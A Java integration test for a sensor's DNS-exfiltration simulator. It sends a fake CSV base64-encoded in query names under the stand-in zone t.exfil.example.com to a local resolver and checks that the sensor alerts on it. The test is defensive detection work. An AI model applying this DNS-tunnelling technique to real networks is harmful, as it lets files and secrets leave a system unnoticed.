package org.geophone.itests.cli;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.geophone.itests.Schemas;
import org.geophone.itests.live.Denier;
import org.geophone.testkit.container.Container;
import org.geophone.testkit.net.VirtualPair;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code simulate --send}: real queries, and a sensor that sees them on the wire. */
class SendCommandTest {
    /** Reserved (RFC 2606), and nothing leaves the test; below a top-level domain that exists. */
    private static final String ZONE = ".t.exfil.example.com";
    private static final int BYTES = 9_000;

    @TempDir
    private Path folder;
    private Cli cli;

    @BeforeEach
    void open() {
        cli = new Cli(folder);
    }

    /** A readable list of the test's own. */
    private byte[] payload() throws IOException {
        StringBuilder text = new StringBuilder("machine;owner;key\n");
        for (int i = 0; text.length() < BYTES; i++) {
            text.append("press ").append(i).append(";shift ").append(i * i % 7).append(';').append(i * 7919)
                    .append('\n');
        }
        byte[] bytes = text.substring(0, BYTES).getBytes(StandardCharsets.US_ASCII);
        cli.write("keys.csv", bytes);
        return bytes;
    }

    private static byte[] decoded(List<String> names) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (String name : names) {
            assertTrue(name.endsWith(ZONE), name);
            out.writeBytes(Base64.getDecoder().decode(name.substring(0, name.length() - ZONE.length())));
        }
        return out.toByteArray();
    }

    @Test
    void theSensorOnTheWireNamesClientAndZoneOfWhatWasSentThroughAResolver() throws Exception {
        byte[] payload = payload();
        Files.createDirectories(folder.resolve("config"));
        for (String file : List.of("org.geophone.admin.cfg", "org.geophone.output.file-local.cfg")) {
            Files.copy(Cli.HOME.resolve("config").resolve(file), folder.resolve("config").resolve(file));
        }
        try (VirtualPair pair = VirtualPair.open(); Denier resolver = resolver(pair)) {
            Process sensor = cli.start(null, folder.resolve("run-out.txt"), folder.resolve("run-err.txt"), "run",
                    "--config", "config", "--data", "data", "--interface", pair.near());
            try {
                Container.await("a healthy sensor", this::healthy);
                Process sender = cli.start(pair.farCommand(), null, folder.resolve("send-out.txt"),
                        folder.resolve("send-err.txt"), "simulate", "--send", pair.nearHost(), "--domain",
                        ZONE.substring(1), "--payload", "keys.csv", "--rate", "200");
                assertTrue(sender.waitFor(120, TimeUnit.SECONDS), "the sender ends");
                String said = Files.readString(folder.resolve("send-out.txt"), StandardCharsets.UTF_8);
                assertEquals(0, sender.exitValue(), said
                        + Files.readString(folder.resolve("send-err.txt"), StandardCharsets.UTF_8));
                // 45 bytes a query
                assertTrue(said.contains("with 9,000 of 9,000 bytes of payload; 200 answered (200 NXDOMAIN), 0 timed"
                        + " out."), said);
                assertTrue(said.contains("\n  client         " + pair.farHost() + "\n  domain         example.com\n"
                        + "  names below    t.exfil.example.com\n  data sent out  about 9.0 kB\n"
                        + "  it begins      \"machine;owner;key"), said);
                assertArrayEquals(payload, decoded(resolver.names()));
                Container.await("an alert", () -> alert() != null);
            } finally {
                end(sensor);
            }
            JsonNode alert = alert();
            assertEquals(pair.farHost(), text(alert, "source.ip.0"), alert.toString());
            assertEquals("example.com", text(alert, "dns.question.registered_domain"));
            assertTrue(alert.toString().contains(ZONE.substring(1)), alert.toString());
            assertTrue(text(alert, "geophone.alert.payload_head").startsWith("machine;owner;key"), alert.toString());
        }
    }

    private static Denier resolver(VirtualPair pair) throws IOException {
        pair.addHosts();
        return new Denier(pair.nearHost(), 53);
    }

    private boolean healthy() {
        try {
            String text = cli.run("status", "--json", "--data", "data").out();
            return !text.isEmpty() && Schemas.JSON.readTree(text).at("/health/state").asText("").equals("ok");
        } catch (IOException e) {
            throw new AssertionError(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError(e);
        }
    }

    /** The last record of an alert, or null. */
    private JsonNode alert() {
        Path file = folder.resolve("data/records/alerts.ndjson");
        if (!Files.exists(file)) {
            return null;
        }
        try (Stream<String> lines = Files.lines(file, StandardCharsets.UTF_8)) {
            List<String> all = lines.toList();
            return all.isEmpty() ? null : Schemas.JSON.readTree(all.get(all.size() - 1));
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    private static String text(JsonNode record, String path) {
        return record.at('/' + path.replace('.', '/')).asText("");
    }

    private static void end(Process process) throws InterruptedException {
        process.destroy();
        if (!process.waitFor(60, TimeUnit.SECONDS)) {
            process.destroyForcibly();
        }
    }

    @Test
    void whoeverStopsItGetsTheSumOfWhatWasSent() throws Exception {
        try (Denier resolver = new Denier("127.0.0.1", 0)) {
            Path out = folder.resolve("out.txt");
            Process sender = cli.start(null, out, folder.resolve("err.txt"), "simulate", "--send",
                    "127.0.0.1:" + resolver.port(), "--domain", ZONE.substring(1), "--rate", "5");
            try {
                Container.await("three queries", () -> resolver.names().size() >= 3);
            } finally {
                end(sender);
            }
            String said = Files.readString(out, StandardCharsets.UTF_8);
            assertTrue(said.contains("Sent " + resolver.names().size() + " queries in "), said);
            assertTrue(said.contains("  domain         example.com\n"), said);
            assertTrue(new String(decoded(resolver.names()), StandardCharsets.US_ASCII).startsWith("staff_no,"));
        }
    }

    @Test
    void aPublicSuffixOfTheListIsRefused() throws Exception {
        for (String suffix : List.of("com", "co.uk", "github.io")) {
            assertTrue(cli.run("simulate", "--send", "127.0.0.1:9", "--domain", suffix).complains(2).err()
                    .contains("--domain " + suffix + " is a public suffix"));
        }
    }
}
